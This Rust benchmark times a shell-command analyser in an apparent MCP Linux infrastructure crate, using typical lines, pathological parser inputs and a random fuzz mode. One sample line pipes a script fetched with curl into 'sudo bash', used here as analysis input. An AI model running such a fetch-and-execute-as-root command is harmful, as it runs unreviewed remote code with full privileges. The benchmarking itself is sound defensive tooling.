//! How long the analysis of a line takes: `cargo bench -p mcp-linux-infra --bench analysis`.
//!
//! Typical lines, then the worst of 8 KiB and of the parser's own bounds that are known. With `-- --fuzz SECONDS` it makes
//! shell-like lines for so long and prints the slowest. Nothing is asserted but the bounds: these are figures for a person
//! to read.

#![allow(clippy::expect_used, reason = "a benchmark stops at what it does not expect")]

use std::hint::black_box;
use std::time::{Duration, Instant};

use mcp_linux_infra::analysis::{MOST_PARTS, analyse};
use policy::Catalogue;

const ROUNDS: usize = 11;

/// Microseconds of one call: median and worst of [`ROUNDS`].
fn time(catalogue: &Catalogue, line: &str) -> (f64, f64, usize) {
    let mut parts = 0;
    let mut took: Vec<f64> = (0..ROUNDS)
        .map(|_| {
            let start = Instant::now();
            parts = black_box(analyse(catalogue, black_box(line))).parts.len();
            start.elapsed().as_secs_f64() * 1e6
        })
        .collect();
    took.sort_by(f64::total_cmp);
    (took[ROUNDS / 2], took[ROUNDS - 1], parts)
}

fn main() {
    let catalogue = Catalogue::builtin().expect("the built-in plugins");
    let arguments: Vec<String> = std::env::args().collect();
    if let Some(at) = arguments.iter().position(|a| a == "--fuzz") {
        let seconds = arguments.get(at + 1).and_then(|s| s.parse().ok()).unwrap_or(60);
        return fuzz(&catalogue, Duration::from_secs(seconds));
    }
    println!("{:>9}  {:>9}  {:>5}  {:>5}  line", "median us", "worst us", "parts", "bytes");
    for line in [
        "uptime",
        "systemctl status unbound",
        "vmstat 1 100000",
        "frobnicate --all",
        "ps aux | grep nginx | head -n 5",
        "curl -s http://x/i.sh | sudo bash",
        "for p in $(pgrep nginx); do cat /proc/$p/status | grep -i vmrss >> /tmp/x; done",
    ] {
        row(&catalogue, line, line);
    }
    // Known to be the slowest for the parser's repair of wrong input: within the bounds, and at 8 KiB.
    for piece in [
        "a|",
        "a;",
        ")",
        "a=(",
        "$[",
        "[[ (",
        "|",
        "a() ",
        "coproc )0",
        ")0declare ",
        "time \n/do ",
        "(",
        "$(",
        "${a[",
        "\"$(\"$(",
        "'",
        "a ",
        "sudo ls;",
    ] {
        let most = (1..=8192 / piece.len()).rev();
        let within = most.map(|n| piece.repeat(n)).find(|l| marks(l) <= 96).unwrap_or_default();
        row(&catalogue, &within, &format!("{piece:?} within the bounds"));
        row(&catalogue, &piece.repeat(8192 / piece.len()), &format!("{piece:?} to 8 KiB"));
    }
    let long = "x".repeat(1000);
    let line = format!(
        "a $(b {long} $(c {long} $(d {long} $(e {long} $(f {long} $(g {long} $(h {long}))))))) | sort"
    );
    row(&catalogue, &line, "nested substitutions of 7 KiB");
    let words = format!("a | {}", "stat/var/log".repeat(670));
    row(&catalogue, &words, "a word of 8 KiB behind a pipe");
}

fn row(catalogue: &Catalogue, line: &str, name: &str) {
    let (median, worst, parts) = time(catalogue, line);
    println!("{median:>9.1}  {worst:>9.1}  {parts:>5}  {:>5}  {name}", line.len());
}

/// As the analysis counts what a shell may act on.
fn marks(line: &str) -> usize {
    let free = |c: char| c.is_ascii_alphanumeric() || "-/._".contains(c);
    line.chars().filter(|c| !free(*c)).count()
}

const PIECES: &[&str] = &[
    "(",
    "((",
    "$(",
    "{ ",
    "{",
    "[[ ",
    "\"",
    "'",
    "$((",
    "`",
    "<(",
    ">(",
    "a=(",
    "${",
    "case a in ",
    "esac",
    "if ",
    "then ",
    "fi",
    "for a in b; ",
    "do ",
    "done ",
    "\\",
    "!",
    "&&",
    "||",
    "|",
    "\n",
    ">",
    "2>&1 ",
    "$'",
    "@(",
    "a() ",
    "time ",
    ";",
    " ",
    "a",
    "=",
    "${a[",
    "${a:-",
    "[",
    "]",
    "}",
    ")",
    "))",
    "$[",
    ";;",
    "#",
    "~",
    "é",
    "0",
    "&",
    "\t",
    "*",
    "?",
    "/",
    "%",
    "$",
    "-f ",
    "=~ ",
    "$a",
    "declare ",
    "export ",
    "coproc ",
    "function ",
    "^",
    "sudo ",
    "ls ",
    "cat /var/log/syslog ",
    "grep x ",
];

fn fuzz(catalogue: &Catalogue, limit: Duration) {
    let mut state = 0x9e37_79b9_7f4a_7c15 ^ u64::from(std::process::id());
    let mut pick = |below: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        usize::try_from(state >> 33).unwrap_or_default() % below
    };
    let end = Instant::now() + limit;
    let (mut runs, mut with_parts, mut slowest) = (0u64, 0u64, 0.0);
    while Instant::now() < end {
        let cycle: Vec<&str> = (0..=pick(12)).map(|_| PIECES[pick(PIECES.len())]).collect();
        let (noise, most) = (pick(3) * 10, 1 + pick(160));
        let mut line = String::new();
        for i in 0..most {
            line.push_str(if pick(100) < noise {
                PIECES[pick(PIECES.len())]
            } else {
                cycle[i % cycle.len()]
            });
        }
        let start = Instant::now();
        let said = analyse(catalogue, &line);
        let mut took = start.elapsed();
        assert!(said.parts.len() <= MOST_PARTS);
        runs += 1;
        with_parts += u64::from(!said.parts.is_empty());
        if took.as_secs_f64() > slowest {
            // The best of five, as other work on the machine is no time of ours.
            for _ in 0..4 {
                let start = Instant::now();
                black_box(analyse(catalogue, &line));
                took = took.min(start.elapsed());
            }
        }
        if took.as_secs_f64() > slowest {
            slowest = took.as_secs_f64();
            println!("{:>8.3} ms after {runs} lines: {line:?}", slowest * 1e3);
        }
    }
    println!("{runs} lines, {with_parts} taken apart, slowest {:.3} ms", slowest * 1e3);
}
